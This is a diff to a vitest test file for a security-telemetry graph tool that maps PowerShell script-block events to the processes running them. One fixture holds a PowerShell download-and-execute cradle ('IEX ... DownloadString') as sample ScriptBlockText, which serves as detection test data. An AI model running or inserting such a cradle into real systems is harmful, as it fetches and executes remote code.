@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import type { NormalizedEvent } from '../../domain/event';
-import { buildEvent } from '../graph/build';
+import { Channels, type NormalizedEvent } from '../../domain/event';
+import { buildEvent, executingProcessFacts } from '../graph/build';
 import { processProvisionalKey, processSessionKey } from '../graph/keys';
 import {
   CMD_GUID,
@@ -231,6 +231,35 @@ describe('resolveIdentities', () => {
   it('a pid-only reference inside a GUID lifetime (Sysmon DNS by <unknown process>) is that process', async () => {
     const g = await pipeline([psexecCreate({ time: T0 }), dnsByPid(7256, T0 + 2 * S, 'workstation5')], [1]);
     expect([...g.edges.values()].find((e) => e.kind === 'RESOLVED')!.from).toBe(`Process:${PSEXEC_GUID}`);
+  });
+
+  it("a PowerShell event's executing pid is the process holding that pid then (its Sigma hits go there)", async () => {
+    const scriptBlock = (time: number, executionPid?: number): NormalizedEvent => ({
+      source: 'windows',
+      channel: Channels.powershell,
+      eventId: 4104,
+      host: 'WORKSTATION5.theshire.local',
+      time,
+      ...(executionPid === undefined ? {} : { executionPid }),
+      fields: { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString($u)' },
+    });
+    expect(executingProcessFacts(scriptBlock(T0))).toBeUndefined();
+    const store = new MemorySessionStore();
+    await resolve(store, [psexecCreate({ time: T0 })]);
+    const facts = [scriptBlock(T0 + 2 * S, 7256), scriptBlock(T0 - 3600 * S, 7256)].map(
+      (e) => executingProcessFacts(e, 'test')!,
+    );
+    const r = await resolveIdentities(facts, store, { now: 2 });
+    // Within the Sysmon process's lifetime: that process. An hour before it started: a provisional one.
+    expect(r.eventNodes.map((n) => n.process)).toEqual([
+      `Process:${PSEXEC_GUID}`,
+      processProvisionalKey('WORKSTATION5', 7256, T0 - 3600 * S),
+    ]);
+    // The node the hit needs is in the subgraph, on its host.
+    const keys = new Set(r.subgraph.nodes.map((n) => n.key));
+    expect(keys.has(`Process:${PSEXEC_GUID}`) && keys.has('Asset:WORKSTATION5')).toBe(true);
+    const runsOn = r.subgraph.edges.filter((e) => e.kind === 'RUNS_ON').map((e) => e.from);
+    expect(runsOn).toContain(`Process:${PSEXEC_GUID}`);
   });
 
   it('re-sends aliases of recently retired keys when their session is touched again', async () => {
